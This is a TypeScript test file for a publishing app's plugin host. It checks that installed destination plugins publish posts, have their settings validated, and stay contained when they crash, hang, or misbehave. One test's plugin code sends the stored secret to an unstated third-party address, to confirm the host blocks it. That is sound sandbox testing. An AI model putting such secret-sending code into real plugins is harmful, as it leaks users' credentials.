import { cpSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { test } from '@japa/runner'
import type { TestContext } from '@japa/runner/core'
import type { ApiClient } from '@japa/api-client'
import db from '@adonisjs/lucid/services/db'
import { dataPath } from '#core/paths'
import { outboxWorker } from '#content/delivery/outbox_worker'
import { sdkFolder } from '#extensions/services/plugin_finder'
import { host } from '#extensions/services/plugin_host'
import { CONTENT, givenPost, POSTS } from '#tests/functional/content/givens'
import { Receiver } from '#tests/functional/content/receiver'
import { givenWorkspace } from '#tests/helpers/given'
import { destinationManifest, isolatedDestination } from '#tests/unit/extensions/plugin_folders'

const SAMPLE = join(sdkFolder(), '../examples/destination-static-site')

interface Folder {
  files: Map<string, string>
  settings: { url: string; username: string; secret: string }
  stop(): Promise<void>
}

/** The host looks at the data folder afresh. */
const reload = async () => {
  await host.close()
  await host.load()
}

const uninstallAll = async () => {
  rmSync(dataPath('plugins'), { recursive: true, force: true })
  await reload()
}

/** A plugin in the data folder, as an operator puts it there. */
async function givenInstalledPlugin(id: string, source: string) {
  const folder = dataPath('plugins', `destination-${id}`)
  mkdirSync(folder, { recursive: true })
  const packageJson = {
    name: `signalbox-destination-${id}`,
    version: '1.0.0',
    type: 'module',
    peerDependencies: { '@signalbox/sdk': '^1.0.0' },
    signalbox: { ...destinationManifest, id, contract: 1, entry: './index.js' },
  }
  writeFileSync(join(folder, 'package.json'), JSON.stringify(packageJson))
  writeFileSync(join(folder, 'index.js'), source)
  await reload()
}

/** A workspace with a destination of a kind. */
async function givenDestination(
  client: ApiClient,
  cleanup: TestContext['cleanup'],
  body: Record<string, unknown>
) {
  const { headers, workspace } = await givenWorkspace()
  cleanup(async () => {
    await outboxWorker.idle()
    await db.from('deliveries').where('workspace_id', workspace.id).delete()
  })
  const added = await client
    .post(`${CONTENT}/destinations`)
    .headers(headers)
    .json({ name: 'Site', ...body })
  added.assertStatus(201)
  const publish = async (post: { id: string }) =>
    (await client.post(`${POSTS}/${post.id}/publish`).headers(headers).json({})).body()
  return { headers, publish, destination: added.body() }
}

test.group('An installed destination plugin', (group) => {
  group.each.teardown(uninstallAll)

  test('publishes posts like one of the product', async ({ client, assert, cleanup }) => {
    cpSync(SAMPLE, dataPath('plugins', 'destination-static-site'), { recursive: true })
    await reload()
    const server = pathToFileURL(join(SAMPLE, 'tests/folder_server.js')).href
    const { startFolder } = (await import(server)) as { startFolder(): Promise<Folder> }
    const { files, settings, stop } = await startFolder()
    cleanup(stop)
    const { headers, publish } = await givenDestination(client, cleanup, {
      kind: 'static-site',
      ...settings,
    })
    const post = await givenPost(client, headers, { tags: ['sea'] })

    const published = await publish(post)

    assert.containsSubset(published.deliveries, [
      {
        status: 'delivered',
        last_error: null,
        remote_id: post.slug,
        remote_url: `${settings.url}/${post.slug}.md`,
      },
    ])
    const file = files.get(`${post.slug}.md`)!
    assert.include(file, 'title: "How tides work"')
    assert.include(file, 'tags: ["sea"]')
    assert.include(file, 'Twice a **day**')

    await client.patch(`${POSTS}/${post.id}`).headers(headers).json({ status: 'archived' })
    await outboxWorker.idle()
    assert.isFalse(files.has(`${post.slug}.md`))
  })

  test('has its settings checked by what it states', async ({ client }) => {
    cpSync(SAMPLE, dataPath('plugins', 'destination-static-site'), { recursive: true })
    await reload()
    const { headers } = await givenWorkspace()
    const long = {
      kind: 'static-site',
      name: 'Site',
      url: 'https://files.example',
      username: 'a\nb',
    }
    const response = await client.post(`${CONTENT}/destinations`).headers(headers).json(long)
    response.assertStatus(422)
    response.assertBodyContains({ detail: [{ loc: ['body', 'username'] }] })
  })

  test('that {story} costs one attempt and nothing more')
    .with([
      {
        story: 'ends its process before it writes',
        code: 'process.exit(1)',
        delivery: { status: 'failed', last_error: { code: 'plugin_error' } },
      },
      {
        story: 'never ends after it wrote',
        code: 'await context.http.request(context.settings.url, { method: "POST", body: {} }); for (;;);',
        delivery: { status: 'unknown', last_error: { code: 'plugin_error' } },
      },
    ])
    .run(async ({ client, assert, cleanup }, { code, delivery }) => {
      await givenInstalledPlugin('acme', isolatedDestination('acme', code))
      const receiver = await Receiver.start(cleanup)
      receiver.serve = (response) => void response.writeHead(200).end('{}')
      const { headers, publish } = await givenDestination(client, cleanup, {
        kind: 'acme',
        url: receiver.url,
        secret: 'a secret',
      })
      const published = await publish(await givenPost(client, headers))

      assert.containsSubset(published.deliveries, [{ attempts: 1, ...delivery }])
      assert.equal(host.find('destination.acme')!.status, 'active')
    })

  test('may not send anywhere else than to its own address', async ({
    client,
    assert,
    cleanup,
  }) => {
    const receiver = await Receiver.start(cleanup)
    const stranger = await Receiver.start(cleanup)
    const code = `await context.http.request(${JSON.stringify(stranger.url)}, { method: 'POST', body: context.settings.secret })`
    await givenInstalledPlugin('acme', isolatedDestination('acme', code))
    const { headers, publish } = await givenDestination(client, cleanup, {
      kind: 'acme',
      url: receiver.url,
      secret: 'a secret',
    })
    const published = await publish(await givenPost(client, headers))

    assert.containsSubset(published.deliveries, [
      { status: 'failed', last_error: { code: 'host_not_stated' } },
    ])
    assert.lengthOf(stranger.received, 0)
  })
})
